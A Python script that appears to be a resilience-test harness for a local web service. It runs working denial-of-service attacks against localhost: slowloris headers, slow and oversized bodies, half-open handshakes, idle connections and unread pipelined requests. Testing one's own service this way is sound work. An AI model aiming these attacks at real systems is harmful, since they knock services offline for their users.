"""Those who attack: each runs as a process of its own, says "ready" when all its connections stand, and goes on until it is ended."""

import argparse
import contextlib
import resource
import socket
import ssl
import sys
import threading
import time

# The longest wait for a connection; one that does not come is told, not waited for without end.
PATIENCE = 60
BULK = "/api/v1/verify/bulk"
FORM = "/ja/ask/bring"


class Target:
    """Where the attack goes: the port of the service, or the gate's with TLS."""

    def __init__(self, port, authority):
        self.port = port
        self.context = ssl.create_default_context(cafile=authority) if authority else None

    def plain(self):
        return socket.create_connection(("127.0.0.1", self.port), PATIENCE)

    def connect(self):
        connection = self.plain()
        return self.context.wrap_socket(connection, server_hostname="localhost") if self.context else connection


def many(count, make):
    """So many connections; those that were refused are left out."""
    made = []
    for _ in range(count):
        with contextlib.suppress(OSError):
            made.append(make())
    return made


def ready(count):
    print(f"ready {count}", flush=True)


def hold_open(target, count):
    """Connections that say nothing; one that is cut is opened anew."""
    connections = many(count, target.plain)
    ready(len(connections))
    while True:
        time.sleep(1)
        for number, connection in enumerate(connections):
            connection.setblocking(False)
            with contextlib.suppress(OSError):
                if connection.recv(1) == b"":
                    connection.close()
                    connections[number] = target.plain()


def half_handshakes(target, count):
    """Connections on which a handshake, or a head, begins and never goes on."""
    def begin():
        connection = target.plain()
        connection.sendall(b"\x16\x03\x01\x02\x00\x01" if target.context else b"GET / HT")
        return connection

    hold = many(count, begin)
    ready(len(hold))
    while True:
        time.sleep(1)
        fresh = many(count // 20, begin)
        hold = hold[len(fresh):] + fresh


def drip(target, count, start, byte, tells=True):
    """Connections on which a byte comes each second; one that is cut is opened anew."""
    def begin():
        connection = target.connect()
        connection.sendall(start)
        return connection

    connections = many(count, begin)
    if tells:
        ready(len(connections))
    while True:
        time.sleep(1)
        for number, connection in enumerate(connections):
            try:
                connection.sendall(byte)
            except OSError:
                with contextlib.suppress(OSError):
                    connections[number] = begin()


def slow_heads(target, count):
    """A byte of a head each second."""
    drip(target, count, b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", b"x")


def slow_bodies(target, count):
    """A byte of a body each second, for a page and for the largest body there is."""
    half = count // 2
    other = threading.Thread(target=drip, args=(target, count - half, head(BULK, "text/csv", 16_000_000), b"x", False), daemon=True)
    other.start()
    drip(target, half, head(FORM, "application/x-www-form-urlencoded", 60_000), b"x")


def head(path, media_type, length=None):
    size = f"Content-Length: {length}" if length else "Transfer-Encoding: chunked"
    return f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: {media_type}\r\n{size}\r\n\r\n".encode()


def flood(target, count):
    """Bodies without end, and bodies of the largest size again and again."""
    def send(start, piece, pieces):
        while True:
            with contextlib.suppress(OSError), contextlib.closing(target.connect()) as connection:
                connection.sendall(start)
                for _ in range(pieces):
                    connection.sendall(piece)

    chunk = b"10000\r\n" + b"x" * 65_536 + b"\r\n"
    ways = [(head(FORM, "application/x-www-form-urlencoded"), chunk, 1 << 30), (head(BULK, "text/csv", 16_000_000), b"x" * 65_536, 250)]
    for number in range(count):
        threading.Thread(target=send, args=ways[number % 2], daemon=True).start()
    ready(count)
    threading.Event().wait()


def never_read(target, count):
    """Many requests on each connection, and no answer is taken."""
    asked = b"".join(b"GET /ja/rules%s HTTP/1.1\r\nHost: localhost\r\n\r\n" % query for query in (b"", b"?q=a")) * 25

    def begin():
        connection = target.connect()
        connection.settimeout(0.1)
        with contextlib.suppress(OSError):
            connection.sendall(asked)
        return connection

    hold = many(count, begin)
    ready(len(hold))
    while True:
        time.sleep(2)
        fresh = many(count // 10, begin)
        for old in hold[:len(fresh)]:
            old.close()
        hold = hold[len(fresh):] + fresh


ATTACKS = {
    "idle": hold_open, "half-open": half_handshakes, "slow-heads": slow_heads, "slow-bodies": slow_bodies, "large-bodies": flood,
    "never-read": never_read,
}


def main():
    """Runs one attack."""
    reader = argparse.ArgumentParser(description=__doc__)
    reader.add_argument("attack", choices=ATTACKS)
    reader.add_argument("port", type=int)
    reader.add_argument("count", type=int)
    reader.add_argument("--authority", help="the certificate by which the gate is known; without it the attack goes past the gate")
    options = reader.parse_args()
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    ATTACKS[options.attack](Target(options.port, options.authority), options.count)


if __name__ == "__main__":
    sys.exit(main())
